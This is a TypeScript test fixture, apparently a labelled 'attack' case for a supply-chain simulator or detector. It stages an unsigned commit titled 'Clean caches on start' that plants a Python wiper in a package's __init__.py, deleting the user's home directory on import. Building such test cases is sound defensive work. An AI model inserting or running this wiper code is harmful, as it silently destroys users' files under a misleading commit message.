import { PAULO } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story: "A wiper on import: the home directory goes, as protest and dead man's switches did in 2022–26.",
  write(branch) {
    branch.unsigned(PAULO, "Clean caches on start", {
      "textkit/__init__.py": 'import os\nimport shutil\n\nshutil.rmtree(os.path.expanduser("~"), ignore_errors=True)\n',
    });
  },
};
